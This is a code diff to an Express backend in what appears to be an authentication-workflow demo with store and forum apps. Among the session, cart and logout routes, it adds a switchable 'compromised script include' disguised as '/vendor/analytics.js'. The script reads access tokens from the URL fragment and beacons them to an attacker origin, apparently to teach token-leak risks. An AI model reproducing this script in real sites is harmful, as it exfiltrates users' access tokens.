@@ -1,19 +1,126 @@
-import express, { type Express } from 'express';
+import express, { type Express, type Router } from 'express';
+import session from 'express-session';
 import type { LoginscopeContext } from '../context.js';
 import { jsonErrorHandler, sendError } from '../errors.js';
-import type { AppId } from '../hosts.js';
 import { health } from '../health.js';
-import { securityHeaders } from '../security-headers.js';
+import { noStore, securityHeaders } from '../security-headers.js';
+import type { Workflow } from '../workflows/types.js';
+import type { AppServices } from './app-services.js';
 
-/** One application backend (the store's or the forum's): its SPA and its `/api/*`. */
-export function createAppBackend(app: AppId, ctx: LoginscopeContext): Express {
+const UI_VIEWS = ['login-form', 'cart', 'posts', 'session-ended'] as const;
+
+/** Where the demo's "compromised script include" is served from while its switch is on. */
+const INJECTED_SCRIPT = '/vendor/analytics.js';
+
+/** The compromised include: a classic script, so it runs before the SPA scrubs the fragment. */
+function injectedScript(attackerOrigin: string): string {
+  return `(function () {
+  if (location.hash.indexOf('access_token=') === -1) return;
+  new Image().src = ${JSON.stringify(attackerOrigin + '/collect')} + '?from=' + encodeURIComponent(location.origin) + '&fragment=' + encodeURIComponent(location.hash.slice(1));
+})();
+`;
+}
+
+/**
+ * One application backend (the store's or the forum's): its SPA, the endpoints every workflow shares,
+ * and the active workflow's own routes.
+ */
+export function createAppBackend(services: AppServices, activeWorkflow: () => Workflow): Express {
+  const { app, ctx, db, sessions, cookieNames } = services;
   const server = express();
   server.disable('x-powered-by');
-  server.use(securityHeaders({ dev: ctx.config.dev }));
+  server.set('trust proxy', false);
+  server.use(securityHeaders({ dev: ctx.config.dev, extraImgSrc: () => (services.switches.injectedScript ? [ctx.urls.attacker] : []) }));
   server.get('/healthz', health(app));
-  server.use('/api', (_req, res) => sendError(res, 404, 'not_found', 'No such API on this application backend.'));
+
+  const api = express.Router();
+  api.use(noStore, express.json({ limit: '16kb' }));
+  api.use(
+    session({
+      name: cookieNames.session,
+      secret: db.sessionSecret(),
+      store: sessions,
+      resave: false,
+      saveUninitialized: false,
+      unset: 'destroy',
+      // No maxAge: a browser-session cookie that outlives the server-side session, which is the truth (design.md).
+      cookie: { ...services.cookieOptions },
+      ...(ctx.config.secureCookies && { proxy: true }),
+    }),
+  );
+
+  // The routes differ per workflow; the active one can change while the server runs.
+  const workflowRouters = new Map<string, Router>();
+  api.use((req, res, next) => {
+    const workflow = activeWorkflow();
+    let router = workflowRouters.get(workflow.id);
+    if (!router) {
+      router = workflow.routes(app, services);
+      workflowRouters.set(workflow.id, router);
+    }
+    router(req, res, next);
+  });
+
+  api.get('/workflow', (_req, res) => {
+    const workflow = activeWorkflow();
+    res.json({ id: workflow.id, title: workflow.title, ...workflow.clientInfo?.(services) });
+  });
+
+  api.get('/me', async (req, res) => {
+    const user = await activeWorkflow().resume(req, res, services);
+    if (!user) return sendError(res, 404, 'not_logged_in', 'No session: you are not logged in.');
+    res.json({ user });
+  });
+
+  if (app === 'store') {
+    api.get('/products', (_req, res) => {
+      res.json({ products: db.products() });
+    });
+    api.get('/cart', async (req, res) => {
+      const user = await activeWorkflow().resume(req, res, services);
+      if (!user) return sendError(res, 401, 'not_logged_in', 'Your session has ended. Please log in again.');
+      const items = db.cart(user.email);
+      res.json({ items, totalCents: items.reduce((sum, i) => sum + i.priceCents * i.quantity, 0) });
+    });
+  } else {
+    api.get('/posts', async (req, res) => {
+      const user = await activeWorkflow().resume(req, res, services);
+      if (!user) return sendError(res, 401, 'not_logged_in', 'Your session has ended. Please log in again.');
+      res.json({ posts: db.posts() });
+    });
+  }
+
+  api.post('/logout', (req, res) => {
+    if (req.session.user) sessions.end(req.sessionID, 'logout');
+    res.clearCookie(cookieNames.session, services.cookieOptions);
+    res.clearCookie(cookieNames.refreshToken, services.cookieOptions);
+    req.session.destroy(() => res.status(204).end());
+  });
+
+  // The SPA reports what it rendered, so browser-only steps ("shows the login form") are evidence, not assumption.
+  api.post('/ui-events', (req, res) => {
+    const view = (req.body as { view?: unknown } | undefined)?.view;
+    if (!UI_VIEWS.includes(view as (typeof UI_VIEWS)[number])) {
+      return sendError(res, 400, 'invalid_view', `view must be one of ${UI_VIEWS.join(', ')}.`);
+    }
+    ctx.bus.emit('browser.rendered', app, { view });
+    res.status(204).end();
+  });
+
+  api.use((_req, res) => sendError(res, 404, 'not_found', 'No such API on this application backend.'));
+  api.use(jsonErrorHandler);
+
+  server.use('/api', api);
+  server.get(INJECTED_SCRIPT, (_req, res) => {
+    if (!services.switches.injectedScript) return sendError(res, 404, 'not_found', 'No such file.');
+    res.type('text/javascript').setHeader('Cache-Control', 'no-store');
+    res.send(injectedScript(ctx.urls.attacker));
+  });
   server.use(ctx.pages.assets);
-  server.get('/{*path}', ctx.pages.page(app));
+  server.get(
+    '/{*path}',
+    ctx.pages.page(app, (html) => (services.switches.injectedScript ? html.replace('<head>', `<head>\n    <script src="${INJECTED_SCRIPT}"></script>`) : html)),
+  );
   server.use(jsonErrorHandler);
   return server;
 }
